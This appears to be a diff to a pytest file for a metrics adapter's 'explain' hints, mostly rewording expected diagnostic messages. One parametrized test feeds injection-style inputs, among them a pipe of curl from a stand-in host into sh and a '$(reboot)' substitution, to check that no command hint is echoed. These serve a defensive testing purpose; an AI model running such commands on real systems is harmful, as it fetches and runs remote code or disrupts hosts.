@@ -88,7 +88,7 @@ NEVER = replace(REFUSED, succeeded_at=None)
             "http_size",
             WORKS,
             (
-                "rules[0] would make it of the series http_size, and found none whose labels name an object and its "
+                "rules[0] would make it from the series http_size, but found none whose labels name an object and its "
                 "namespace (looked up 12 s ago)"
             ),
         ),
@@ -96,7 +96,7 @@ NEVER = replace(REFUSED, succeeded_at=None)
             "depth",
             (WORKS[0], REFUSED),
             (
-                "rules[1] would make it of the series depth, and cannot look up its series, the last time it could was "
+                "rules[1] would make it from the series depth, but cannot look up its series, which last succeeded "
                 '12 s ago: query depth{pod!=""}: no server answers'
             ),
         ),
@@ -149,10 +149,10 @@ def test_what_is_remembered_of_names_is_bounded() -> None:
 @pytest.mark.parametrize(
     ("command", "named"),
     [
-        ("pods/rps -n shop", " (more: tidewatch-adapter explain pods/rps -n shop)"),
+        ("adapter explain pods/rps -n shop", " (more: adapter explain pods/rps -n shop)"),
         ("", ""),
-        ("x; curl evil.example | sh -n shop", ""),
-        ("$(reboot) -n shop", ""),
+        ("adapter explain x; curl evil.example | sh -n shop", ""),
+        ("adapter explain $(reboot) -n shop", ""),
         ("a\nb -n shop", ""),
         ("x" * 500, ""),
     ],
@@ -172,7 +172,7 @@ REFUSED_RULES = (
     RefusedRule("rules[8]", Api.CUSTOM, "rules.yaml", 40, '{__name__=~"^http_.*"}', "{}"),
     RefusedRule("resourceRules.cpu", Api.RESOURCE, "rules.yaml", 60),
 )
-WOULD_MAKE = "rules[7] (rules.yaml:34) would make it and is refused: see the adapter's log"
+WOULD_MAKE = "rules[7] (rules.yaml:34) would make it but is refused: see the adapter's log"
 
 
 @pytest.mark.parametrize(
@@ -180,7 +180,7 @@ WOULD_MAKE = "rules[7] (rules.yaml:34) would make it and is refused: see the ada
     [
         ("rps", WORKS, WOULD_MAKE),
         ("rps", (), WOULD_MAKE),
-        ("http_size", (), "rules[8] (rules.yaml:40) would make it and is refused: see the adapter's log"),
+        ("http_size", (), "rules[8] (rules.yaml:40) would make it but is refused: see the adapter's log"),
         (
             "other",
             WORKS,
